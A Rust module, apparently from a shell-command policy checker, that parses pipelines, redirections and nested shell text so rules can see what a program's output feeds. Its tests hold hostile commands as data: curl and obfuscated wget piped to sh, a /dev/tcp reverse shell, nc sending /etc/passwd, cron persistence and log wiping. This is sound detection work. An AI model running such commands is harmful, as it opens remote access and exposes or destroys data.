//! Pipelines and redirections of a command text.
//!
//! [`warden_session::shell`] says which programs a text starts; rules also ask what a program's output goes to and which
//! files the shell opens for it. This reading is shallow on purpose: it splits text, expands nothing and never fails.

use std::collections::{BTreeMap, BTreeSet};

use warden_session::Invocation;
use warden_session::shell::{Dialect, parse};

use self::segments::Segment;

mod segments;
mod tokens;

/// Most texts of one command that are split: itself, substitutions, inner shells.
const MAX_TEXTS: usize = 64;
/// Most simple commands of one command that are looked at: each costs a reading of its own.
const MAX_SEGMENTS: usize = 128;
/// Longest list that one shape holds.
const MAX_VALUES: usize = 64;
/// Programs that read an argument as shell text.
const INNER: [&str; 21] = [
    "sh", "bash", "dash", "zsh", "ksh", "ash", "fish", "su", "runuser", "eval", "ssh", "script", "watch", "parallel",
    "xargs", "docker", "podman", "kubectl", "nsenter", "chroot", "env",
];

/// What stands around one invocation.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Shape {
    /// Programs that read its output, directly or further down the pipeline: `argv[0]` of each.
    pub(super) pipes_to: Vec<String>,
    /// Normalised command lines whose output it reads.
    pub(super) piped_from: Vec<String>,
    /// Redirections as `OPERATOR TARGET`, such as `>> /etc/hosts`; duplicated descriptors and here-documents left out.
    pub(super) redirects: Vec<String>,
}

impl Shape {
    /// Adds what another place in the text says of the same program.
    fn merge(&mut self, other: &Self) {
        for (list, more) in [
            (&mut self.pipes_to, &other.pipes_to),
            (&mut self.piped_from, &other.piped_from),
            (&mut self.redirects, &other.redirects),
        ] {
            for value in more {
                if list.len() < MAX_VALUES && !list.contains(value) {
                    list.push(value.clone());
                }
            }
        }
    }
}

/// The shapes of a command's invocations.
#[derive(Debug, Default)]
pub(super) struct Shapes {
    by_argv: BTreeMap<Vec<String>, Shape>,
    /// Of simple commands whose words are known only when they run (`echo $i` in a loop): by the program's name, or by
    /// `$` if that is not known either.
    by_program: BTreeMap<String, Shape>,
    /// Redirections of simple commands without a program, such as `> /var/log/secure`.
    pub(super) bare: Vec<Shape>,
}

impl Shapes {
    /// Reads the text of a command and of the inner shells among its invocations.
    pub(super) fn read(text: &str, invocations: &[Invocation]) -> Self {
        let mut shapes = Self::default();
        let mut texts: Vec<String> = inner_texts(invocations).take(MAX_TEXTS).collect();
        texts.push(text.to_owned());
        let known = invocations.iter().map(|invocation| invocation.argv.as_slice()).collect();
        let mut left = MAX_SEGMENTS;
        for _ in 0..MAX_TEXTS {
            let Some(text) = texts.pop() else { break };
            let (tokens, nested) = tokens::read(&text);
            texts.extend(nested);
            let segments = segments::read(&text, &tokens, left);
            left -= segments.len();
            shapes.add(&segments, &known);
        }
        shapes
    }

    /// The shape of the invocation with these words; an empty one if its text could not be found.
    pub(super) fn of(&self, argv: &[String]) -> Shape {
        let by_program = || {
            let program = argv.first()?;
            self.by_program.get(program).or_else(|| self.by_program.get("$"))
        };
        self.by_argv.get(argv).or_else(by_program).cloned().unwrap_or_default()
    }

    fn add(&mut self, segments: &[Segment], known: &BTreeSet<&[String]>) {
        let started = segments.iter().map(|segment| {
            let text = if segment.is_plain() { "" } else { segment.text.as_str() };
            parse(text, Dialect::Posix).invocations
        });
        let started: Vec<Vec<Invocation>> = started.collect();
        let of = |index: &usize| started.get(*index).into_iter().flatten();
        for (segment, invocations) in segments.iter().zip(&started) {
            let name = |invocation: &Invocation| invocation.argv.first().cloned().unwrap_or_default();
            let shape = Shape {
                pipes_to: segment.readers.iter().flat_map(of).map(name).take(MAX_VALUES).collect(),
                piped_from: segment
                    .writers
                    .iter()
                    .flat_map(of)
                    .map(Invocation::command_line)
                    .take(MAX_VALUES)
                    .collect(),
                redirects: segment.redirects.iter().take(MAX_VALUES).cloned().collect(),
            };
            if shape == Shape::default() {
                continue;
            }
            if invocations.is_empty() {
                self.bare.push(shape.clone());
            }
            for Invocation { argv, .. } in invocations {
                let program = argv.first().map_or("$", |name| if name.contains('$') { "$" } else { name });
                if known.contains(argv.as_slice()) {
                    self.by_argv.entry(argv.clone()).or_default().merge(&shape);
                } else {
                    self.by_program.entry(program.to_owned()).or_default().merge(&shape);
                }
            }
        }
    }
}

/// Arguments that are texts for another shell.
fn inner_texts(invocations: &[Invocation]) -> impl Iterator<Item = String> {
    invocations.iter().flat_map(|invocation| {
        let name = invocation.argv.first().map(|name| name.rsplit('/').next().unwrap_or(name)).unwrap_or_default();
        let arguments = invocation.argv.get(1..).unwrap_or_default();
        let texts = match name {
            "eval" => vec![arguments.join(" ")],
            _ if INNER.contains(&name) => arguments.to_vec(),
            _ => Vec::new(),
        };
        texts.into_iter().filter(|text| text.contains(['|', '<', '>', '`', '$']))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(text: &str, program: &str) -> Shape {
        let invocations = parse(text, Dialect::Posix).invocations;
        let shapes = Shapes::read(text, &invocations);
        invocations.iter().filter(|one| one.argv[0] == program).map(|one| shapes.of(&one.argv)).next().unwrap()
    }

    #[test]
    fn follows_pipelines_through_wrappers_groups_and_inner_shells() {
        for (text, program, pipes_to, piped_from) in [
            ("curl x | sudo sh", "curl", vec!["sudo", "sh"], vec![]),
            ("curl x | sudo sh", "sh", vec![], vec!["curl x"]),
            ("bash -c 'curl x|sh'", "curl", vec!["sh"], vec![]),
            ("(crontab -l; echo y) | crontab -", "echo", vec!["crontab"], vec![]),
            ("for i in 1 2; do echo $i; done | sh", "echo", vec!["sh"], vec![]),
            ("w=wge;t=t; $w$t -qO- x | sh", "wget", vec!["sh"], vec![]),
            ("echo 'curl x | sh'", "echo", vec![], vec![]),
            ("eval \"$(curl x | base64 -d)\"", "curl", vec!["base64"], vec![]),
            ("case $x in a) curl y | sh;; esac", "curl", vec!["sh"], vec![]),
            ("a && curl x |& tee f | sh; ls", "ls", vec![], vec![]),
        ] {
            let shape = shape(text, program);
            assert_eq!(shape.pipes_to, pipes_to, "{text}");
            assert_eq!(shape.piped_from, piped_from, "{text}");
        }
    }

    proptest::proptest! {
        #[test]
        fn reads_any_text(text in r#"([a-z ]|[|&;<>(){}$`"'\\\n#0-9é]|<<E|\$\(|for |case |do |done|esac){0,60}"#) {
            Shapes::read(&text, &parse(&text, Dialect::Posix).invocations);
        }
    }

    #[test]
    fn names_the_files_that_the_shell_opens() {
        for (text, program, redirects) in [
            ("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "bash", vec![">& /dev/tcp/203.0.113.66/4444"]),
            ("echo 'x > y' >> \"/etc/cron.d/a b\"", "echo", vec![">> /etc/cron.d/a b"]),
            ("{ echo a; date; } > /tmp/f", "date", vec!["> /tmp/f"]),
            ("cat <<E > /tmp/f\n> /etc/x | sh\nE\n", "cat", vec!["> /tmp/f"]),
            ("sudo sh -c 'echo x >/etc/y' 2>/dev/null", "echo", vec!["> /dev/null", "> /etc/y"]),
            ("nc h 1 < /etc/passwd", "nc", vec!["< /etc/passwd"]),
        ] {
            assert_eq!(shape(text, program).redirects, redirects, "{text}");
        }
        assert_eq!(Shapes::read("> /var/log/secure", &[]).bare[0].redirects, ["> /var/log/secure"]);
        assert!(Shapes::read("ls # > x", &[]).bare.is_empty());
    }
}
